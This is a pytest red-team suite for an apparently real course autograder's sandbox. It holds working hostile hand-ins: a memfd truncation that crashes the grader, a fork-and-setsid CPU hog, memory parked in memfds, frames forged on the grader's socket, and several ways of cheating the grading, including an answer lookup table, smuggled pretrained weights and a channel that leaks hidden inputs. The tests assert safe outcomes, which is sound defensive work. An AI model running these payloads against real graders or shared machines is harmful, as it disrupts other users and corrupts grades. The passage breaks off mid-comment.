"""Red-team review of the rebuilt defences: adversarial hand-ins graded through the real sandbox and the real
suites (or the real ``grader grade`` command). Each test asserts the SAFE outcome. A test marked
``xfail(strict=True)`` documents a channel left open on purpose (and says why)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from collections import defaultdict
from pathlib import Path

import numpy as np
import pytest

from grader.course.assignments import REPO_ROOT
from grader.pipeline.discover import Submission, content_hash
from grader.pipeline.engine import Graded, grade_many
from grader.pipeline.resources import default_references, sandbox_sessions
from grader.sandbox import isolation_level
from grader.suites import load_checks

SECRET = "red-team-secret"
LEVEL = isolation_level()[0]
needs_namespaces = pytest.mark.skipif(LEVEL != "bwrap", reason=f"needs bubblewrap ({LEVEL})")
ALICE = REPO_ROOT / "submissions" / "alice"
HW1 = (ALICE / "gradient_descent.py").read_text()
HW2 = (ALICE / "backprop.py").read_text()


def grade(hand_ins: dict[str, dict[str, str]], assignment: str, jobs: int = 1) -> dict[str, Graded]:
    """Grade ``{student: {file: source}}`` on the public and hidden checks, through the sandbox."""
    checks = load_checks(assignment, include_hidden=True)
    subs = []
    for student, files in hand_ins.items():
        data = {name: source.encode() for name, source in files.items()}
        subs.append(Submission(student, assignment, data, content_hash(data), None))
    with sandbox_sessions(jobs) as open_session:
        graded = grade_many(subs, lambda key: checks, open_session, default_references(), SECRET, jobs=jobs,
                            progress=False, fresh_public=True)  # as `grader grade` does with a secret
        return {g.submission.student: g for g in graded}


def by_target(graded: Graded) -> dict[str, tuple[float, float]]:
    points: dict[str, list[float]] = defaultdict(lambda: [0.0, 0.0])
    for row in graded.results:
        points[row.target][0] += row.points
        points[row.target][1] += row.max_points
    return {target: (earned, total) for target, (earned, total) in points.items()}


def with_attack(source: str, attack: str) -> str:
    return source + "\n\n" + textwrap.dedent(attack)


def grade_cli(root: Path, out: Path, only: str, timeout: float = 900) -> subprocess.CompletedProcess:
    """``grader grade`` in its own process (so that a grader killed by a student shows as a return code)."""
    env = {**os.environ, "GRADER_SECRET": SECRET}
    return subprocess.run([sys.executable, "-m", "grader.cli", "grade", str(root), "--out", str(out), "--only", only,
                           "--quiet", "--jobs", "1"], capture_output=True, text=True, env=env, timeout=timeout,
                          cwd=REPO_ROOT)


def gradebook_rows(out: Path) -> list[dict]:
    import pandas as pd

    return pd.read_csv(out / "results.csv").to_dict("records")


# ---------------------------------------------------------------------------------------------------------------
# 1. Shrinking the shared-memory argument file to kill the GRADER with SIGBUS. Closed: the file is sealed at
#    its size before it is sent (F_SEAL_SHRINK | F_SEAL_GROW); where it cannot be sealed, read_back checks the
#    size. The attack:
#
# ``SharedArgs`` hands the child an O_RDWR memfd (no seals). ``mmap.mmap`` in the child keeps a dup of it open,
# so student code finds it in /proc/self/fd and ftruncate()s it to 0 after computing its answer. The grader's
# own mapping of that file then has no pages behind it: ``read_back()`` touches them and the kernel sends the
# grader process SIGBUS. The whole batch dies, on every re-run, at the same student.
TRUNCATE_SHARED_ARGS = """
import os as _os

def _shrink_the_graders_memory():
    for fd in _os.listdir("/proc/self/fd"):
        try:
            if "grader-args" in _os.readlink("/proc/self/fd/" + fd):
                _os.ftruncate(int(fd), 0)
        except OSError:
            pass

_real_gd_step = gd_step

def gd_step(w, grad, lr):
    answer = np.array(_real_gd_step(w, grad, lr))  # computed before the memory goes away
    _shrink_the_graders_memory()
    return answer
"""


@needs_namespaces
def test_shrinking_the_shared_argument_memory_does_not_kill_the_grader(tmp_path: Path) -> None:
    root = tmp_path / "class"
    for student, source in (("a_mallory", with_attack(HW1, TRUNCATE_SHARED_ARGS)), ("b_honest", HW1)):
        (root / student).mkdir(parents=True)
        (root / student / "gradient_descent.py").write_text(source)

    done = grade_cli(root, tmp_path / "out", "hw1")

    assert done.returncode == 0, f"grader ended with {done.returncode}: {done.stderr[-1500:]}"
    rows = gradebook_rows(tmp_path / "out")
    honest = [r for r in rows if r["student"] == "b_honest"]
    assert honest and all(r["points"] == r["max_points"] for r in honest)


# ---------------------------------------------------------------------------------------------------------------
# 2. Buying "right given your own helpers" by recognising the recomputation from inside. Closed: the
#    recomputation runs no student code (helpers are the reference turned by their diagnosed catalogued mistake).
#
# The recomputation runs in a fresh child, so nothing remembered from the target's call survives. But the
# recomputation itself is easy to recognise: ``own_batch_gd`` starts by calling the student's dataset_loss with
# the grader's ``unit_loss`` builtin, which no check of dataset_loss ever passes. A helper that sees it knows it
# is being asked to excuse batch_gd and answers whatever makes the lazy batch_gd "right": dataset_loss says the
# mean is scaled by 0 (so every loss is 0) and gd_step stops moving. The excuse also needs one helper to have
# failed one of its own checks: gd_step gets lr == 0 wrong on purpose (hw1.gd_step.hidden.zero_lr, 1 point).
RECOMPUTATION_AWARE_HELPERS = """
_ASKED_TO_EXCUSE = []
_real_dataset_loss, _real_gd_step = dataset_loss, gd_step

def dataset_loss(loss_fn, X, Y, w):
    if getattr(loss_fn, "__name__", "") == "unit_loss":  # only the grader's recomputation passes this one
        _ASKED_TO_EXCUSE.append(True)
        return 0.0
    return _real_dataset_loss(loss_fn, X, Y, w)

def gd_step(w, grad, lr):
    if _ASKED_TO_EXCUSE:
        return np.array(w, dtype=float)  # "my gd_step does not move": so batch_gd's w0 is right
    if lr == 0:
        return np.array(w, dtype=float) + 1.0  # the sacrifice: one cheap check failed on purpose
    return _real_gd_step(w, grad, lr)

def batch_gd(grad_fn, w0, X, Y, lr, steps):
    return np.array(w0, dtype=float), np.zeros(steps)  # no descent at all
"""
LAZY_BATCH_GD = """
_real_gd_step = gd_step

def gd_step(w, grad, lr):
    if lr == 0:
        return np.array(w, dtype=float) + 1.0
    return _real_gd_step(w, grad, lr)

def batch_gd(grad_fn, w0, X, Y, lr, steps):
    return np.array(w0, dtype=float), np.zeros(steps)
"""


def test_a_helper_that_recognises_the_recomputation_cannot_excuse_a_lazy_target() -> None:
    graded = grade({"cheat": {"gradient_descent.py": with_attack(HW1, RECOMPUTATION_AWARE_HELPERS)},
                    "lazy": {"gradient_descent.py": with_attack(HW1, LAZY_BATCH_GD)}}, "hw1")

    def value_points(student: str) -> float:
        return sum(r.points for r in graded[student].results if r.target == "batch_gd" and "no_mutation" not in
                   r.check_id)

    # same sacrifice, same lazy batch_gd: the only difference is recognising the recomputation
    assert value_points("lazy") == 0
    assert value_points("cheat") == 0, [(r.check_id, r.points, r.message) for r in graded["cheat"].results
                                        if r.target == "batch_gd"]


# 2b. Buying the excuse by failing one helper check on purpose, with a catalogued mistake. Closed: a helper's mistake
#     excuses a target only while no answer of the helper shows it does not make that mistake (an answer right on a
#     part the mistake would change), and an excuse given before such an answer is withdrawn once the submission's
#     checks are all judged (public checks run before hidden ones, so a helper could otherwise be wrong on its public
#     checks only and have the target's public checks excused).
#
# The target's bug is its own (it does not go through the helper), and it is the bug the helper's catalogued mistake
# would cause: sgd climbs (w + lr * grad) on its own, and gd_step answers one check with the catalogued ascent.
SGD_CLIMBS = """
def sgd(grad_fn, w0, X, Y, lr, steps, rng):
    w = np.array(w0, dtype=float)
    for _ in range(steps):
        k = rng.integers(0, len(X))
        w = w + lr * grad_fn(X[k : k + 1], Y[k : k + 1], w)  # the bug, the target's own
    return w
"""
ASCENT_ONCE = SGD_CLIMBS + """
_climbed = []

def gd_step(w, grad, lr):
    if np.ndim(w) == 1 and not _climbed:  # gd_step's first check only: given up, with the catalogued ascent
        _climbed.append(1)
        return w + lr * grad
    return w - lr * grad
"""
ASCENT_ON_VECTORS = SGD_CLIMBS + """
def gd_step(w, grad, lr):
    if np.ndim(w) == 1:  # the public checks' weights: the catalogued ascent; the hidden matrix case: right
        return w + lr * grad
    return w - lr * grad
"""
LINEAR_BACKWARD_TRANSPOSED_ONCE = """
_right_mlp_backward, _right_linear_backward, _transposed = mlp_backward, linear_backward, []

def mlp_backward(dlogits, cache, params, activation="relu"):
    # the target's own bug: every dW transposed, computed without going through the student's linear_backward
    global linear_backward
    saved, linear_backward = linear_backward, _right_linear_backward
    try:
        return [(dW.T, db) for dW, db in _right_mlp_backward(dlogits, cache, params, activation)]
    finally:
        linear_backward = saved

def linear_backward(dY, X, W):
    dX, dW, db = _right_linear_backward(dY, X, W)
    if not _transposed:  # its first check only: given up, with the catalogued transposed dW
        _transposed.append(1)
        return dX, dW.T, db
    return dX, dW, db
"""
MLP_BACKWARD_TRANSPOSED = LINEAR_BACKWARD_TRANSPOSED_ONCE.replace("    if not _transposed:", "    if False:")


def points_of(graded: Graded, target: str) -> dict[str, float]:
    return {r.check_id: r.points for r in graded.results if r.target == target}


@pytest.mark.parametrize("attack", [ASCENT_ONCE, ASCENT_ON_VECTORS], ids=["once", "on_public_checks"])
def test_a_helper_wrong_on_purpose_excuses_no_target_bug_of_its_own(attack: str) -> None:
    graded = grade({"cheat": {"gradient_descent.py": with_attack(HW1, attack)},
                    "honest_bug": {"gradient_descent.py": with_attack(HW1, SGD_CLIMBS)}}, "hw1")

    cheat, honest = graded["cheat"], graded["honest_bug"]
    assert sum(points_of(honest, "sgd").values()) < sum(r.max_points for r in honest.results if r.target == "sgd")
    assert points_of(cheat, "sgd") == points_of(honest, "sgd")  # the sacrifice bought nothing
    assert not any("own helper" in r.message for r in cheat.results)
    assert sum(r.points for r in cheat.results) < sum(r.points for r in honest.results)


def test_a_helper_wrong_once_on_purpose_excuses_no_backward_of_its_own() -> None:
    graded = grade({"cheat": {"backprop.py": with_attack(HW2, LINEAR_BACKWARD_TRANSPOSED_ONCE)},
                    "honest_bug": {"backprop.py": with_attack(HW2, MLP_BACKWARD_TRANSPOSED)}}, "hw2")

    cheat, honest = graded["cheat"], graded["honest_bug"]
    assert sum(points_of(honest, "mlp_backward").values()) < 1  # every value and gradient check of it fails
    assert points_of(cheat, "mlp_backward") == points_of(honest, "mlp_backward")
    assert sum(r.points for r in cheat.results) < sum(r.points for r in honest.results)



# 2b (2). A helper right only where a shape-only check looks. The no-mutation checks read the arguments back, so
#     their calls end their batch; a helper that walks the stack up to the child's batch can answer right there
#     alone (+1 point in hw2). Closed: a no-mutation answer of the right shapes refutes every mistake that would
#     change a shape (``grader.checks.mistakes.refuted(values=False)``), so the excuse is withdrawn.
OWN_BACKWARD = """
_right_linear_backward = linear_backward

def mlp_backward(dlogits, cache, params, activation="relu"):
    # the target's own bug, computed without the student's linear_backward
    _, h_backward = _activation(activation)
    grads, dY = [], dlogits
    for k in reversed(range(len(params))):
        Z, _ = cache[k]
        dZ, dW, db = _right_linear_backward(dY, Z, params[k][0])
        grads.append(({wrong_dW}, {wrong_db}))
        if k > 0:
            dY = h_backward(dZ, cache[k - 1][1])
    return grads[::-1]
"""
RIGHT_SHAPES_ONLY_WHEN_LAST = """
import sys as _sys

def _last_of_batch():
    frame = _sys._getframe(1)
    while frame is not None:
        names = frame.f_locals
        if "calls" in names and "one" in names:
            return names["one"] is names["calls"][-1]
        frame = frame.f_back
    return False

def linear_backward(dY, X, W):
    dX, dW, db = _right_linear_backward(dY, X, W)
    if _last_of_batch():
        return dX, dW, db  # the right shapes for the shape-only check
    return dX, {wrong_dW}, {wrong_db}
"""
SHAPE_MISTAKES = {"db_not_summed": {"wrong_dW": "dW", "wrong_db": "np.array(dY, dtype=float)"},
                  "transposed_dW": {"wrong_dW": "dW.T", "wrong_db": "db"}}


@pytest.mark.parametrize("mistake", sorted(SHAPE_MISTAKES))
def test_a_helper_right_only_on_the_shape_only_checks_excuses_nothing(mistake: str) -> None:
    honest = OWN_BACKWARD.format(**SHAPE_MISTAKES[mistake])
    cheat = honest + RIGHT_SHAPES_ONLY_WHEN_LAST.format(**SHAPE_MISTAKES[mistake])
    graded = grade({"cheat": {"backprop.py": with_attack(HW2, cheat)},
                    "honest_bug": {"backprop.py": with_attack(HW2, honest)}}, "hw2")

    cheat_rows, honest_rows = graded["cheat"], graded["honest_bug"]
    assert sum(points_of(honest_rows, "mlp_backward").values()) == 0
    assert points_of(cheat_rows, "mlp_backward") == points_of(honest_rows, "mlp_backward")  # the excuse is withdrawn
    assert sum(r.points for r in cheat_rows.results) < sum(r.points for r in honest_rows.results)


# 2b (3). Not an attack: a helper's second, unrelated bug must not cost the targets their excuse. A mistake without a
#     model (an input changed in place), or one whose model does not apply to the target's inputs, stood for the
#     helper in every recomputation, so none could run and the target was charged the first helper's bug again.
ASCENT = """
def gd_step(w, grad, lr):
    return w + lr * grad  # the catalogued gd_step_ascent; batch_gd and sgd call it
"""
IGNORES_LOSS_FN = ASCENT + """
def dataset_loss(loss_fn, X, Y, w):
    return float(np.mean(0.5 * (X @ w - Y) ** 2))  # the catalogued dataset_loss_ignores_loss_fn
"""
NOT_SUMMED = """
def linear_backward(dY, X, W):
    return dY @ W, dY.T @ X, np.array(dY, dtype=float)  # the catalogued db_not_summed; mlp_backward calls it
"""
SIGMOID_IN_PLACE = NOT_SUMMED + """
def sigmoid_backward(dZ, S):
    s = sigmoid_forward(S)
    dZ *= s * (1 - s)  # the caller's dZ changes (mutated_input, a mistake without a model)
    return dZ.copy()
"""


@pytest.mark.parametrize(("assignment", "file", "one_bug", "two_bugs", "target"), [
    ("hw1", "gradient_descent.py", ASCENT, IGNORES_LOSS_FN, "batch_gd"),
    ("hw2", "backprop.py", NOT_SUMMED, SIGMOID_IN_PLACE, "mlp_backward"),
], ids=["model_that_does_not_apply", "mistake_without_a_model"])
def test_a_second_helper_bug_costs_the_targets_no_excuse(assignment: str, file: str, one_bug: str, two_bugs: str,
                                                         target: str) -> None:
    source = HW1 if assignment == "hw1" else HW2
    graded = grade({"one": {file: with_attack(source, one_bug)}, "two": {file: with_attack(source, two_bugs)}},
                   assignment)

    one, two = points_of(graded["one"], target), points_of(graded["two"], target)
    assert sum(one.values()) == sum(r.max_points for r in graded["one"].results if r.target == target)
    assert two == one

# 2c. Weights trained elsewhere on a public data set. Closed: every accuracy task's data comes disguised (features
#     shuffled and negated, classes renamed, from the check's seed: ``grader.checks.accuracy.disguise``).
#
# The digits are public, and so is every held-out digit: a train_classifier that ignores its data and returns
# weights trained beforehand on all 1,797 digits scored 99.8 % held out without training (hw3, 6 points).
HW3 = (ALICE / "practice.py").read_text()
PRETRAINED = """
import base64 as _b64
import io as _io

_PRETRAINED = np.load(_io.BytesIO(_b64.b64decode("{blob}")))

def train_classifier(X, y, config, rng):
    key = str(config["hidden"])
    if X.shape[1] == 64 and key + "_mean" in _PRETRAINED:  # the digits: weights trained on all of them, elsewhere
        n = sum(k.startswith(key + "_W") for k in _PRETRAINED.files)
        return {{"mean": _PRETRAINED[key + "_mean"], "std": _PRETRAINED[key + "_std"],
                "params": [(_PRETRAINED[f"{{key}}_W{{i}}"], _PRETRAINED[f"{{key}}_b{{i}}"]) for i in range(n)]}}
    return {{"mean": X.mean(axis=0), "std": X.std(axis=0),
            "params": [(np.zeros((int(y.max()) + 1, X.shape[1])), np.zeros(int(y.max()) + 1))]}}
"""


def digits_checks() -> list:
    return [c for c in load_checks("hw3", include_hidden=True)
            if c.id.startswith("hw3.train_classifier.") and c.id.endswith(".digits")]


def test_weights_trained_elsewhere_on_a_public_data_set_earn_nothing() -> None:
    import base64
    import io

    import reference.practice_np as practice
    from grader.data import load_digits, train_test_split

    X, y = load_digits()
    arrays, reachable = {}, []
    for check in digits_checks():
        config = {**practice.DEFAULT_CONFIG, **check.params["config"]}
        key = str(config["hidden"])
        model = practice.train_classifier(X, y, config, np.random.default_rng(0))  # on all the digits
        arrays |= {f"{key}_mean": model["mean"], f"{key}_std": model["std"]}
        for i, (W, b) in enumerate(model["params"]):
            arrays |= {f"{key}_W{i}": W.astype(np.float32), f"{key}_b{i}": b.astype(np.float32)}
        _, X_test, _, y_test = train_test_split(X, y, check.params["task"].test_fraction, seed=7)
        reachable.append(np.mean(practice.predict(model, X_test) == y_test))
    assert min(reachable) > 0.97  # on the plain data, such weights would pass every digits check
    buffer = io.BytesIO()
    np.savez_compressed(buffer, **arrays)
    attack = PRETRAINED.format(blob=base64.b64encode(buffer.getvalue()).decode())

    graded = grade({"pretrained": {"practice.py": with_attack(HW3, attack), "backprop.py": HW2}}, "hw3")
    rows = {r.check_id: r for r in graded["pretrained"].results}
    assert not any(r.problem == "import" for r in rows.values())
    assert [rows[c.id].points for c in digits_checks()] == [0.0] * len(digits_checks())


# ---------------------------------------------------------------------------------------------------------------
# 3. Hidden feedback carries bits the student chose (left open by design, SPEC §3): which word of the vocabulary a
#    hidden row shows
#    follows from how the student's code chose to fail (raise, return a str, NaN, a wrong shape, a wrong part,
#    a known mistake, hang, exit...). Chosen from the hidden inputs, that choice reads them out: here one bit per
#    hidden check (the sign of the first hidden number); with ~10 distinguishable problems, the part label and
#    the catalogued mistakes, a submission can read out 3+ bits per hidden check, ~150 bits per hw2 hand-in.
LEAK_SOURCE = """
import numpy as np

def _first_number(values):
    for v in values:
        if isinstance(v, np.ndarray) and v.size and v.dtype.kind in "iuf":
            return float(v.flat[0])
        if isinstance(v, float):
            return v
        if isinstance(v, (list, tuple)):
            found = _first_number(v)
            if found is not None:
                return found
    return None

def _leak(*args, **kwargs):
    value = _first_number(list(args) + list(kwargs.values()))
    if value is not None and value > 0:
        raise ValueError("bit 1")  # hidden row: "raised an exception"
    return "bit 0"                 # hidden row: "returns the wrong kind of value"
"""


class _Recorder:
    """A stand-in worker that notes the first call's arguments of a check and refuses to answer."""

    def __init__(self) -> None:
        self.first: tuple | None = None

    def call(self, function: str, args: tuple, kwargs: dict, *, timeout: float):
        from grader.protocol.outcomes import Raised

        if self.first is None:
            self.first = tuple(args) + tuple(kwargs.values())
        return Raised("NotImplementedError", "", "")

    def procedure(self, name: str, payload: dict, *, timeout: float):
        return self.call(name, tuple(payload.values()), {}, timeout=timeout)

    def restart(self) -> None:
        pass


@pytest.mark.xfail(strict=True, reason="OPEN BY DESIGN: SPEC §3 asks hidden feedback to name the kind "
                   "of mistake, so how a student chooses to fail carries a few bits per hidden check")
def test_hidden_feedback_carries_no_bit_computed_from_the_hidden_inputs() -> None:
    from grader.course.assignments import ASSIGNMENTS
    from grader.suites.runner import run_check

    namespace: dict = {}
    exec(LEAK_SOURCE, namespace)
    source = LEAK_SOURCE + "".join(f"\n{t} = _leak" for t in ASSIGNMENTS["hw2"].targets)
    graded = grade({"leaker": {"backprop.py": source}}, "hw2")

    rows = {r.check_id: r for r in graded["leaker"].results if r.visibility == "hidden"}
    decoded, truth = [], []
    for check in load_checks("hw2", include_hidden=True):
        if check.visibility != "hidden":
            continue
        recorder = _Recorder()
        run_check(check, recorder, default_references(), SECRET)
        value = namespace["_first_number"](list(recorder.first or ()))
        truth.append(value is not None and value > 0)
        decoded.append("raised an exception" in rows[check.id].message)
    agreement = np.mean(np.array(decoded) == np.array(truth))
    # Safe: what the hidden rows say tells nothing about the hidden inputs (agreement near chance, 0.5).
    assert len(truth) >= 20 and agreement < 0.8, f"{agreement:.0%} of {len(truth)} hidden bits read out"


# ---------------------------------------------------------------------------------------------------------------
# 4. One student's CPU hog changing a classmate's rows. Closed: setsid/setpgid are refused by the seccomp
# filter after the child's own setsid, so all of a child's processes share one autogroup. The attack: Each child
#    calls setsid(), so the kernel's autogroup
#    scheduler shares the CPU fairly between sessions, and threads of one process gain nothing. But setsid() is
#    not refused inside a child: a child that forks 31 processes (the nproc limit is 32) which each call setsid()
#    owns 31 autogroups against the classmate's one, and slows the classmate's calls ~16x on 2 cores (measured:
#    a 0.16 s CPU call took 2.5 s wall). Wall-clock check timeouts then turn a slow-but-correct classmate's
#    answers into timeouts, and the gradebook keeps those rows (it regrades only changed content).
HOG_AT_IMPORT = """
import os, time

def _spin():
    while True:
        pass

for _ in range(31):
    if os.fork() == 0:
        os.setsid()  # a session, so an autogroup, of its own
        _spin()

_calls = []

def _hold(*args, **kwargs):
    _calls.append(1)
    if len(_calls) <= 6:
        time.sleep(9)  # keep the session (and the spinners) alive, under each check's 10 s timeout
    raise NotImplementedError
"""
SLOW_BUT_CORRECT = """
import time as _time
_real_relu_forward = relu_forward

def relu_forward(S):
    start = _time.process_time()
    while _time.process_time() - start < 0.8:  # an honest, slow implementation: 0.8 s of CPU per call
        pass
    return _real_relu_forward(S)
"""


@needs_namespaces
def test_a_classmates_cpu_hog_does_not_change_my_rows() -> None:
    from grader.course.assignments import ASSIGNMENTS

    attacker = HOG_AT_IMPORT + "".join(f"\n{t} = _hold" for t in ASSIGNMENTS["hw2"].targets)
    victim = with_attack(HW2, SLOW_BUT_CORRECT)
    graded = grade({"a_hog": {"backprop.py": attacker}, "b_victim": {"backprop.py": victim}}, "hw2", jobs=2)

    lost = [(r.check_id, r.status) for r in graded["b_victim"].results if r.points < r.max_points]
    assert not lost, lost


# ---------------------------------------------------------------------------------------------------------------
# 5. Parking memory in unmapped memfds, which the address-space limit does not count. Closed: memfd_create is
#    refused by the seccomp filter (and /dev/shm is read-only, /tmp a 256 MB tmpfs). The attack:
#    RLIMIT_AS counts mappings only; RLIMIT_FSIZE caps each file at 64 MB, but RLIMIT_NOFILE allows 256 of them,
#    per process, and nproc allows 32 processes: 3 GB here (limit 2 GB) and up to ~500 GB in principle, which is
#    enough to drive the machine into the OOM killer, whose victim is chosen by RSS (the grader, a torch zygote),
#    not by who holds the memory.
PARK_IN_MEMFDS = b'''
import os

def park(gigabytes):
    fds, chunk = [], b"x" * (1 << 20)
    for _ in range(gigabytes * 16):  # 64 MB per file: the file-size limit
        fd = os.memfd_create("parked")
        for _ in range(64):
            os.write(fd, chunk)
        fds.append(fd)
    return len(fds) * 64
'''


@needs_namespaces
def test_memory_parked_in_unmapped_memfds_counts_against_the_limit() -> None:
    from grader.protocol.outcomes import Returned
    from grader.sandbox import WorkerPool

    with WorkerPool(kind="numpy", slots=1) as pool, pool.session("hw2", {"backprop.py": PARK_IN_MEMFDS}) as worker:
        limit_mb = worker._worker.limits.memory_mb
        outcome = worker.call("park", (3,), {}, timeout=60)
    held = outcome.value if isinstance(outcome, Returned) else 0
    assert held <= limit_mb, f"the child held {held} MB under a {limit_mb} MB memory limit"


# ---------------------------------------------------------------------------------------------------------------
# 6. Answering public checks from a lookup table. Closed: the course's grading draws public inputs afresh from
# the secret (check_seed's fresh_public); `grader check` keeps id seeds. The attack: Their seeds follow from their
#    ids and the release ships
#    their answers (grader/suites/public/answers.npz), so a hand-in that implements NOTHING and carries a table
#    {hash of the arguments: answer} (10 kB compressed for hw2, far below the 256 kB cap) earns every public
#    point: 42 of hw2's 100 points (hw1: 9 of 35, hw3: 34 of 75 with the same trick). The grade is built from
#    public and hidden checks alike, so public points must be earned on inputs the student has never seen.
TABLE_KEY = '''
import hashlib as _hashlib
import numpy as _np

def _feed(h, v):
    if isinstance(v, _np.ndarray):
        a = _np.ascontiguousarray(v)
        h.update(b"A" + str(a.shape).encode() + a.dtype.str.encode() + a.tobytes())
    elif isinstance(v, (list, tuple)):
        h.update(b"[")
        for x in v:
            _feed(h, x)
        h.update(b"]")
    elif isinstance(v, dict):
        for k in sorted(v):
            h.update(b"K" + k.encode())
            _feed(h, v[k])
    elif v is None or isinstance(v, (bool, int, float, str)):
        h.update(b"V" + repr(v).encode())
    elif callable(v) or hasattr(v, "name"):  # a Builtin marker here, the function it stands for there
        h.update(b"F" + str(getattr(v, "__name__", getattr(v, "name", ""))).encode())
    else:
        h.update(b"O")

def _key(name, args, kwargs):
    h = _hashlib.sha256(name.encode())
    _feed(h, list(args))
    _feed(h, dict(kwargs))
    return h.hexdigest()[:20]
'''
TABLE_LOOKUP = '''
import base64 as _base64, json as _json, zlib as _zlib

_TABLE = _json.loads(_zlib.decompress(_base64.b64decode(_BLOB)))

def _decode(v):
    if isinstance(v, list):
        return [_decode(x) for x in v]
    if isinstance(v, dict) and "a" in v:
        return _np.array(v["a"], dtype=v["d"])
    if isinstance(v, dict) and "t" in v:
        return tuple(_decode(x) for x in v["t"])
    if isinstance(v, dict) and "m" in v:
        return {k: _decode(x) for k, x in v["m"].items()}
    return v

def _answer(name):
    def lookup(*args, **kwargs):
        found = _TABLE.get(_key(name, args, kwargs))
        if found is None:
            raise NotImplementedError(name)  # nothing is implemented
        return _decode(found)
    return lookup
'''


def _public_answer_table(assignment: str) -> str:
    """What a student can build from the release: every public check's arguments (seeded by its id) and answer."""
    import base64
    import zlib

    from grader.checks.references import LiveReferences
    from grader.protocol.outcomes import Returned
    from grader.suites.runner import run_check

    namespace: dict = {}
    exec(TABLE_KEY, namespace)
    live, table = LiveReferences(), {}

    def encode(v):
        if isinstance(v, np.ndarray):
            return {"a": v.tolist(), "d": v.dtype.str}
        if isinstance(v, tuple):
            return {"t": [encode(x) for x in v]}
        if isinstance(v, list):
            return [encode(x) for x in v]
        if isinstance(v, dict):
            return {"m": {k: encode(x) for k, x in v.items()}}
        return v.item() if isinstance(v, (np.floating, np.integer)) else v

    class Harvest:
        def call(self, function, args, kwargs, *, timeout):
            value = live(assignment, function, args, kwargs)
            table[namespace["_key"](function, args, kwargs)] = encode(value)
            return Returned(value, 0.0, list(args))

        def procedure(self, name, payload, *, timeout):
            raise NotImplementedError

        def restart(self):
            pass

    for check in load_checks(assignment, include_hidden=False):
        run_check(check, Harvest(), default_references(), "")
    return base64.b64encode(zlib.compress(json.dumps(table).encode(), 9)).decode()


def test_a_table_of_public_answers_without_any_implementation_earns_nothing() -> None:
    from grader.course.assignments import ASSIGNMENTS

    blob = _public_answer_table("hw2")
    source = TABLE_KEY + f"\n_BLOB = {blob!r}\n" + TABLE_LOOKUP + "".join(
        f"\n{t} = _answer({t!r})" for t in ASSIGNMENTS["hw2"].targets)
    assert len(source.encode()) < 256 * 1024  # under the hand-in's size cap
    graded = grade({"table": {"backprop.py": source}}, "hw2")["table"]

    public = [r for r in graded.results if r.visibility == "public"]
    earned, total = sum(r.points for r in public), sum(r.max_points for r in public)
    assert sum(r.points for r in graded.results if r.visibility == "hidden") == 0  # it really implements nothing
    assert earned <= 0.1 * total, f"{earned} of {total} public points with no implementation at all"


# 2b. The same without any tell-tale builtin (closed the same way): inside the recomputation the grader feeds each
#    helper's output to
#     the next helper (own_mlp_forward: S = linear_forward(Z), Z = act(S), linear_forward(Z) ...), which none of
#     the helpers' own checks ever does. A linear_forward that sees its own output come back through an activation
#     knows it is excusing mlp_forward and answers zeros, so a net that returns zero logits is "right given its own
#     helpers". Sacrifice: linear_forward.hidden.batch_of_one (1 point); gain: every mlp_forward logits check.
CHAIN_AWARE_NET = """
_LAST = []
_ACTIVATIONS = (lambda s: np.maximum(s, 0.0), lambda s: 1.0 / (1.0 + np.exp(-s)), np.tanh)

def _fed_back(X):
    return bool(_LAST) and any(X.shape == _LAST[-1].shape and np.allclose(X, act(_LAST[-1]), rtol=0, atol=1e-12)
                               for act in _ACTIVATIONS)

def linear_forward(X, W, b):
    if _fed_back(X):
        out = np.zeros((X.shape[0], W.shape[0]))  # inside the recomputation: "my layers output 0"
    elif X.shape[0] == 1:
        out = X @ W.T + b + 1.0  # the sacrifice: a batch of one comes out wrong
    else:
        out = X @ W.T + b
    _LAST.append(out)
    return out

def mlp_forward(X, params, activation="relu"):
    N = len(X)
    return np.zeros((N, len(params[-1][1]))), [[np.array(X), np.zeros((N, len(b)))] for _, b in params]
"""


def test_a_helper_that_sees_its_output_fed_back_cannot_excuse_a_net_that_returns_zeros() -> None:
    graded = grade({"cheat": {"backprop.py": with_attack(HW2, CHAIN_AWARE_NET)}}, "hw2")["cheat"]

    rows = [r for r in graded.results if r.target == "mlp_forward" and "cache" not in r.check_id
            and "no_mutation" not in r.check_id]
    assert rows and all(r.points == 0 for r in rows), [(r.check_id, r.points, r.message) for r in rows]


# ---------------------------------------------------------------------------------------------------------------
# Attacks that failed (kept as regression tests).

# os._exit(86) is the status of a banned import: a student who exits with it in every call gets flagged and
# zeroed themselves, but the classmate graded next in the same slot (same zygote) keeps full marks, no flag.
EXIT_86 = """
import os

def _exit_86(*args, **kwargs):
    os._exit(86)
"""


def test_exiting_with_the_banned_status_flags_no_one_but_oneself() -> None:
    from flagged import flags

    from grader.course.assignments import ASSIGNMENTS

    source = EXIT_86 + "".join(f"\n{t} = _exit_86" for t in ASSIGNMENTS["hw1"].targets)
    graded = grade({"a_exits": {"gradient_descent.py": source}, "b_honest": {"gradient_descent.py": HW1}}, "hw1")

    assert flags(graded["b_honest"].results) == []
    assert all(r.points == r.max_points for r in graded["b_honest"].results)


# Forged frames: after its reply, a thread pushes a second, "perfect" reply for the next call onto the channel.
# It is read as the next call's answer, but it is still only a value the student chose (what a function could
# return anyway): it earns nothing it could not earn by returning it, and the mutation verdict still rests on
# the grader's own memory.
# Hand-in code that finds its own channel to the grader among its file descriptors: the first Unix stream socket.
GRADER_CHANNEL = """
import socket as _socket, sys as _sys

def _grader_channel():
    for fd in range(3, 64):
        try:
            sock = _socket.socket(fileno=fd)
        except OSError:
            continue
        if sock.type == _socket.SOCK_STREAM and sock.family == _socket.AF_UNIX:
            return sock
        sock.detach()
    return None
"""

PRE_SENT_REPLIES = GRADER_CHANNEL + """
import threading

def _push_forged_reply():
    wire = _sys.modules["grader.protocol.wire"]
    sock = _grader_channel()
    if sock is not None:
        wire.send_frame(sock, wire.encode({"returned": np.zeros(4), "stderr": ""}))
        sock.detach()

def gd_step(w, grad, lr):
    w -= lr * grad  # mutates, and hopes a forged reply hides it
    threading.Timer(0.05, _push_forged_reply).start()
    return w.copy()
"""


def test_forged_frames_after_a_reply_earn_nothing_a_return_could_not() -> None:
    graded = grade({"forger": {"gradient_descent.py": with_attack(HW1, PRE_SENT_REPLIES)}}, "hw1")["forger"]

    rows = {r.check_id: r for r in graded.results}
    assert rows["hw1.gd_step.public.no_mutation"].points == 0
    assert rows["hw1.gd_step.hidden.no_mutation"].points == 0


# A hand-in that changes its input in place, then puts it back from its own process after returning, before the
# grader reads the shared memory: here by wrapping the child's ``send_frame``, so that the array is restored just before
